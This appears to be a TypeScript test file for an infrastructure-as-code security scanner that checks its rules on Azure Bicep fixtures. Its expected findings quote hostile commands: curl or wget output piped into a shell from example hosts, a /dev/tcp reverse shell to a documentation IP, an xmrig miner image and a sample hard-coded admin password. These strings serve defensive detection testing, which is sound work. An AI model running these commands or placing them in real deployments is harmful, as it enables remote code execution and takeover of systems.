import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import adminPort from '../../../src/engine/rules/admin-port-open-to-internet';
import allPorts from '../../../src/engine/rules/all-ports-open-to-internet';
import cryptoMiner from '../../../src/engine/rules/crypto-miner-software';
import password from '../../../src/engine/rules/hard-coded-password';
import publicAccessBlock from '../../../src/engine/rules/public-access-block-turned-off';
import remoteCode from '../../../src/engine/rules/remote-code-piped-into-shell';
import reverseShell from '../../../src/engine/rules/reverse-shell';
import storageReadable from '../../../src/engine/rules/storage-readable-by-anyone';
import { fixesResolve } from '../fixes/fix-resolves';
import { narrowed } from '../helpers/narrowed';
import { ruleTester } from '../rule-tester';

/**
 * The built-in rules on Bicep, one flagged case and clean look-alikes per rule family (network,
 * storage, scripts, attack tooling and miners, credentials). Resource bodies are shaped like ARM's,
 * so these rules read Bicep with the same code as ARM templates; the rules are tested in full in
 * their own files.
 */

const FIXTURES = path.join(__dirname, '../../../../test/fixtures/bicep');

function fixture(name: string): { path: string; source: string } {
	return { path: name, source: readFileSync(path.join(FIXTURES, name), 'utf8') };
}

const openRdp = fixture('nsg-open-rdp.bicep');
const halfTyped = fixture('half-typed.bicep');
const suppressed = fixture('suppressed.bicep');
const allPortsOpen = fixture('all-ports.bicep');

/** The parameter the narrowing fix declares, as Bicep writes it. */
function bicepParam(name: string, resource: string): string {
	return `@description('Source address prefix (CIDR or service tag) allowed to reach ${resource} instead of the whole internet')\nparam ${name} string\n`;
}

const LOCATION = 'param location string = resourceGroup().location\n';

ruleTester.run(adminPort, {
	flagged: [
		{
			name: 'RDP and SSH open to anyone in an NSG and its nested child rule',
			...openRdp,
			findings: [
				{
					ruleId: 'AUP-NET-001', line: 15, character: 32, endLine: 15, endCharacter: 33, text: '*', message: /^RDP \(3389\) is open to the whole internet \(\*\) in Microsoft\.Network\/networkSecurityGroups 'nsg'\./,
					// The parameter goes below the file's last one, where readers look for parameters.
					fixed: [narrowed(narrowed(openRdp.source, 'sourceAddressPrefix: \'*\'', 'sourceAddressPrefix: nsgAllowedSourcePrefix'), LOCATION, `${LOCATION}\n${bicepParam('nsgAllowedSourcePrefix', 'nsg')}`)],
				},
				{
					ruleId: 'AUP-NET-001', line: 44, character: 28, endLine: 44, endCharacter: 37, text: '0.0.0.0/0', message: /^SSH \(22\) is open to the whole internet \(0\.0\.0\.0\/0\) in Microsoft\.Network\/networkSecurityGroups\/securityRules 'ssh'\./,
					fixed: [narrowed(narrowed(openRdp.source, 'sourceAddressPrefix: \'0.0.0.0/0\'', 'sourceAddressPrefix: sshAllowedSourcePrefix'), LOCATION, `${LOCATION}\n${bicepParam('sshAllowedSourcePrefix', 'ssh')}`)],
				},
			],
		},
		{
			name: 'the finished NSG of a half-typed file',
			...halfTyped,
			findings: [{
				ruleId: 'AUP-NET-001', line: 13, character: 32, endLine: 13, endCharacter: 33, text: '*',
				fixed: [narrowed(narrowed(halfTyped.source, 'sourceAddressPrefix: \'*\'', 'sourceAddressPrefix: nsgAllowedSourcePrefix'), LOCATION, `${LOCATION}\n${bicepParam('nsgAllowedSourcePrefix', 'nsg')}`)],
			}],
		},
		{
			name: 'SSH open to anyone under a suppression comment with its reason',
			...suppressed,
			findings: [{
				ruleId: 'AUP-NET-001', line: 17, character: 32, endLine: 17, endCharacter: 33, text: '*', suppressed: 'lab jump host, the address range is enforced upstream by Azure Firewall',
				// A file without parameters gets its first one at the end.
				fixed: [narrowed(suppressed.source, 'sourceAddressPrefix: \'*\'', 'sourceAddressPrefix: labNsgAllowedSourcePrefix', `\n${bicepParam('labNsgAllowedSourcePrefix', 'labNsg')}`)],
			}],
		},
	],
	clean: [
		{ name: 'HTTPS from the internet, RDP from a parameter and everything from the virtual network', ...fixture('nsg-clean.bicep') },
	],
});

ruleTester.run(allPorts, {
	flagged: [
		{
			name: 'every port and protocol open to the Internet service tag',
			...allPortsOpen,
			findings: [{
				ruleId: 'AUP-NET-002', line: 13, character: 32, endLine: 13, endCharacter: 40, text: 'Internet',
				fixed: [narrowed(allPortsOpen.source, 'sourceAddressPrefix: \'Internet\'', 'sourceAddressPrefix: nsgAllowedSourcePrefix', `\n${bicepParam('nsgAllowedSourcePrefix', 'nsg')}`)],
			}],
		},
	],
	clean: [
		{ name: 'every port open to the virtual network only', ...fixture('nsg-clean.bicep') },
	],
});

fixesResolve(adminPort, [{ name: 'an NSG and its nested child rule', ...openRdp }]);
fixesResolve(allPorts, [{ name: 'an NSG open to the Internet tag', ...allPortsOpen }]);

const storage = fixture('storage-public.bicep');

ruleTester.run(publicAccessBlock, {
	flagged: [
		{
			name: 'allowBlobPublicAccess true on a storage account',
			...storage,
			findings: [{
				ruleId: 'AUP-STO-003', line: 11, character: 27, endLine: 11, endCharacter: 31, text: 'true',
				fixed: [storage.source.replace('allowBlobPublicAccess: true', 'allowBlobPublicAccess: false')],
			}],
		},
	],
	clean: [
		{ name: 'allowBlobPublicAccess false, from a parameter, and true only in a comment', ...fixture('storage-clean.bicep') },
	],
});

ruleTester.run(storageReadable, {
	flagged: [
		{
			name: 'a container nested two levels deep with anonymous blob access',
			...storage,
			findings: [{
				ruleId: 'AUP-STO-001', line: 22, character: 23, endLine: 22, endCharacter: 27, text: 'Blob',
				fixed: [storage.source.replace('publicAccess: \'Blob\'', 'publicAccess: \'None\'')],
			}],
		},
	],
	clean: [
		{ name: 'a nested container with publicAccess None', ...fixture('storage-clean.bicep') },
	],
});

ruleTester.run(remoteCode, {
	flagged: [
		{
			name: 'curl piped into bash in customData and wget into sh in a CustomScript extension',
			...fixture('vm-custom-data.bicep'),
			findings: [
				{ ruleId: 'AUP-EXE-001', line: 26, character: 0, endLine: 26, endCharacter: 46, text: 'curl -fsSL https://get.example-tools.sh | bash' },
				{ ruleId: 'AUP-EXE-001', line: 40, character: 27, endLine: 40, endCharacter: 82, text: 'wget -qO- https://scripts.example.net/bootstrap.sh | sh' },
			],
		},
		{
			name: 'curl piped into bash in a deployment script',
			...fixture('deployment-script.bicep'),
			findings: [{ ruleId: 'AUP-EXE-001', line: 16, character: 0, endLine: 16, endCharacter: 52, text: 'curl -sSL https://install.example.io/agent.sh | bash' }],
		},
		{
			name: 'curl piped into bash after non-ASCII text',
			...fixture('non-ascii.bicep'),
			findings: [{ ruleId: 'AUP-EXE-001', line: 17, character: 0, endLine: 17, endCharacter: 39, text: 'curl -s http://198.51.100.7/x.sh | bash' }],
		},
	],
	clean: [
		{ name: 'an installer downloaded, checked against its hash, then run', ...fixture('vm-clean.bicep') },
	],
});

ruleTester.run(reverseShell, {
	flagged: [
		{
			name: 'a /dev/tcp reverse shell in commandToExecute',
			...fixture('attack.bicep'),
			findings: [{ ruleId: 'AUP-ATK-001', line: 13, character: 25, endLine: 13, endCharacter: 67, text: 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' }],
		},
	],
	clean: [
		{ name: 'a checked installer in customData and a training command', ...fixture('vm-clean.bicep') },
	],
});

ruleTester.run(cryptoMiner, {
	flagged: [
		{
			name: 'an xmrig image in a container group',
			...fixture('attack.bicep'),
			findings: [{ ruleId: 'AUP-MIN-001', line: 27, character: 18, endLine: 27, endCharacter: 23, text: 'xmrig' }],
		},
	],
	clean: [
		{ name: 'a GPU training container group', ...fixture('vm-clean.bicep') },
	],
});

ruleTester.run(password, {
	flagged: [
		{
			name: 'an admin password as a parameter default',
			...fixture('password.bicep'),
			findings: [{ ruleId: 'AUP-CRD-003', line: 1, character: 30, endLine: 1, endCharacter: 46, text: 'Winter2024!Azure' }],
		},
	],
	clean: [
		{ name: 'a secure parameter without default and a Key Vault secret passed to a module', ...fixture('password-clean.bicep') },
	],
});
